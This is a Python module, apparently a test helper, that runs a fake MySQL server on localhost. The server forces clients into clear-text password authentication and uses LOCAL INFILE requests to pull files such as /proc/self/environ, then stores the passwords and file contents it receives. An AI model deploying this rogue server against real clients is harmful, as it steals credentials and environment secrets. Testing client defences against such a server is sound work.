"""A server that claims to be MySQL: it asks for the password, then for files, and keeps what it is given."""

from __future__ import annotations

import socket
import ssl
from contextlib import suppress
from threading import Thread

PROTOCOL_41, SSL, SECURE_CONNECTION, PLUGIN_AUTH = 0x200, 0x800, 0x8000, 0x80000
CAPABILITIES = 0x1 | 0x8 | 0x80 | PROTOCOL_41 | 0x2000 | SECURE_CONNECTION | PLUGIN_AUTH
SEED = b"12345678901234567890"
OK = b"\x00\x00\x00\x02\x00\x00\x00"
QUERY = 3


class RogueMySql:
    """Listens on 127.0.0.1 while it is open.

    :param tls: its certificate; None for a server that offers no TLS.
    :param file: the file that it asks for in answer to any query.
    :param only_in_answer_to: how the queries begin that it answers so; all others it answers with OK.
    :ivar passwords: what it was told, in clear text.
    :ivar files: the contents of the files that it was sent.
    :ivar queries: what it was asked.
    """

    def __init__(
        self, tls: ssl.SSLContext | None = None, file: str = "/proc/self/environ", only_in_answer_to: str = ""
    ):
        self._tls = tls
        self._file = file
        self._trigger = only_in_answer_to
        self.passwords: list[bytes] = []
        self.files: list[bytes] = []
        self.queries: list[bytes] = []
        self._server = socket.create_server(("127.0.0.1", 0))
        self.port = self._server.getsockname()[1]

    def __enter__(self) -> RogueMySql:
        Thread(target=self._serve, daemon=True).start()
        return self

    def __exit__(self, *_) -> None:
        self._server.close()

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self._server.accept()
            except OSError:
                return
            client.settimeout(10)
            with suppress(OSError, EOFError):
                self._greet(client)

    def _greet(self, client: socket.socket) -> None:
        offered = CAPABILITIES | (SSL if self._tls else 0)
        _send(
            client,
            0,
            b"\x0a8.4.0\x00\x01\x00\x00\x00" + SEED[:8] + b"\x00" + offered.to_bytes(4, "little")[:2] + b"\x2d\x02\x00"
            + offered.to_bytes(4, "little")[2:] + b"\x15" + bytes(10) + SEED[8:] + b"\x00caching_sha2_password\x00",
        )  # fmt: skip
        number, answer = _receive(client)
        if self._tls and int.from_bytes(answer[:4], "little") & SSL:
            client = self._tls.wrap_socket(client, server_side=True)
            number, answer = _receive(client)
        _send(client, number + 1, b"\xfemysql_clear_password\x00")
        number, password = _receive(client)
        self.passwords.append(password.rstrip(b"\x00"))
        _send(client, number + 1, OK)
        while True:
            number, command = _receive(client)
            if command[0] != QUERY:
                return
            self.queries.append(command[1:])
            if command[1:].startswith(self._trigger.encode()):
                number = self._ask_for_file(client, number)
            _send(client, number + 1, OK)

    def _ask_for_file(self, client: socket.socket, number: int) -> int:
        _send(client, number + 1, b"\xfb" + self._file.encode())
        content = b""
        while True:
            number, part = _receive(client)
            if not part:
                break
            content += part
        if content:
            self.files.append(content)
        return number


def _send(client: socket.socket, number: int, payload: bytes) -> None:
    client.sendall(len(payload).to_bytes(3, "little") + bytes([number % 256]) + payload)


def _receive(client: socket.socket) -> tuple[int, bytes]:
    header = exactly(client, 4)
    return header[3], exactly(client, int.from_bytes(header[:3], "little"))


def exactly(client: socket.socket, size: int) -> bytes:
    """The next bytes that the client sends.

    :raises EOFError: it sends fewer and leaves.
    """
    found = b""
    while len(found) < size:
        part = client.recv(size - len(found))
        if not part:
            raise EOFError
        found += part
    return found
